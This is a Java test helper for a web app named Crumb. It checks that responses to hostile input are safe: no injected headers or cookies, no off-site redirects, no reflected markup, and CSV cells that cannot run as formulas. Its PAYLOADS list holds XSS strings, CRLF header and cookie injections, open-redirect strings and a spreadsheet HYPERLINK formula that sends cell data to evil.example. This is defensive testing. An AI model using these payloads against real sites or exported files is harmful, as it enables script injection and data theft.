package dev.crumb.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.crumb.testsupport.RawHttp;
import java.net.URI;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * The checks every answer to hostile input must pass: a 2xx, 3xx or 4xx (never a 5xx); no header that
 * input could have injected; only Crumb's own cookies set (or a cookie deleted); redirects only to this
 * site; the raw input never verbatim in HTML; JSON that parses; CSV whose cells cannot run as formulas.
 */
final class ResponseSafety {

    /** Markers the hostile inputs carry so an injected header or cookie is easy to spot. */
    static final String INJECTED_HEADER = "X-Crumb-Injected";
    static final String INJECTED_COOKIE = "crumbinjected";

    /** Payloads that must never come back verbatim in HTML. */
    static final List<String> PAYLOADS = List.of(
            "\"><script>alert('crumbXSS')</script>",
            "<img src=x onerror=crumbXSS()>",
            "\" autofocus onfocus=\"crumbXSS()",
            "' onmouseover='crumbXSS()",
            "javascript:crumbXSS()//",
            "\r\n" + INJECTED_HEADER + ": 1\r\nSet-Cookie: " + INJECTED_COOKIE + "=1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"crumbXSS\")",
            "%0d%0a" + INJECTED_HEADER + ":%201",
            "//evil.example/crumbXSS",
            "/\\evil.example");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Set<String> OWN_COOKIES = Set.of("crumb", "crumb_analyst");

    private ResponseSafety() {
    }

    static void check(HttpResponse<String> r, URI base, String input) {
        check(r.statusCode(), r.headers().map(), r.headers().firstValue("Content-Type").orElse(""), r.body(), base, input);
    }

    static void check(RawHttp.Response r, URI base, String input) {
        assertThat(r.head()).as("raw response head").doesNotContain("\n" + INJECTED_HEADER);
        java.util.Map<String, List<String>> headers = new java.util.LinkedHashMap<>();
        r.headers().forEach(h -> headers.computeIfAbsent(h.getKey(), k -> new java.util.ArrayList<>()).add(h.getValue()));
        check(r.status(), headers, r.contentType(), r.body(), base, input);
    }

    private static void check(int status, Map<String, List<String>> headers, String contentType, String body, URI base,
                              String input) {
        String what = "answer to input " + printable(input);
        assertThat(status).as(what + ": status").isBetween(200, 499);
        headers.forEach((name, values) -> {
            assertThat(name).as(what + ": header name").isNotEqualToIgnoringCase(INJECTED_HEADER);
            for (String v : values) {
                assertThat(v).as(what + ": header " + name).doesNotContain("\r").doesNotContain("\n");
            }
            if (name.equalsIgnoreCase("Set-Cookie")) {
                values.forEach(v -> checkSetCookie(v, what));
            }
            if (name.equalsIgnoreCase("Location")) {
                values.forEach(v -> checkLocation(v, base, what));
            }
        });
        String type = contentType.toLowerCase(Locale.ROOT);
        if (type.startsWith("text/html")) {
            for (String payload : PAYLOADS) {
                if (input != null && input.contains(payload)) {
                    assertThat(body).as(what + ": HTML body").doesNotContain(payload);
                }
            }
            // Shorter inputs such as '">' or '<p' occur in any page's own markup; the PAYLOADS above cover the
            // short attack strings, so a raw reflection is looked for only from six characters on.
            if (input != null && input.length() >= 6 && (input.contains("<") || input.contains("\""))) {
                assertThat(body).as(what + ": HTML body").doesNotContain(input);
            }
        } else if (type.startsWith("application/json")) {
            try {
                JSON.readTree(body);
            } catch (Exception e) {
                throw new AssertionError(what + ": JSON body does not parse: " + e.getMessage());
            }
        } else if (type.startsWith("text/csv")) {
            checkCsv(body, what);
        }
    }

    private static void checkSetCookie(String value, String what) {
        String pair = value.split(";", 2)[0];
        String name = pair.contains("=") ? pair.substring(0, pair.indexOf('=')).trim() : pair.trim();
        boolean deletes = value.toLowerCase(Locale.ROOT).contains("max-age=0");
        assertThat(name).as(what + ": cookie set").isNotEqualTo(INJECTED_COOKIE);
        assertThat(OWN_COOKIES.contains(name) || deletes).as(what + ": only Crumb's cookies are set, got " + value)
                .isTrue();
    }

    private static void checkLocation(String location, URI base, String what) {
        if (location.startsWith("/")) {
            assertThat(location).as(what + ": redirect stays on the site").doesNotStartWith("//").doesNotContain("\\");
        } else {
            URI target = URI.create(location);
            assertThat(target.getHost()).as(what + ": redirect host").isEqualTo(base.getHost());
            assertThat(target.getPort()).as(what + ": redirect port").isEqualTo(base.getPort());
        }
    }

    /** Every row has the four columns, and no cell starts with a character a spreadsheet reads as a formula. */
    static void checkCsv(String body, String what) {
        for (List<String> row : CsvRows.parse(body)) {
            assertThat(row).as(what + ": CSV row " + row).hasSize(4);
            for (String cell : row) {
                if (!cell.isEmpty()) {
                    assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as(what + ": CSV cell " + printable(cell)).isLessThan(0);
                }
            }
        }
    }

    static String printable(String s) {
        if (s == null) {
            return "null";
        }
        String cut = s.length() > 120 ? s.substring(0, 120) + "…(" + s.length() + " chars)" : s;
        StringBuilder b = new StringBuilder();
        cut.codePoints().forEach(c -> b.append(c < 0x20 || c == 0x7f ? String.format("\\x%02x", c) : Character.toString(c)));
        return b.toString();
    }
}
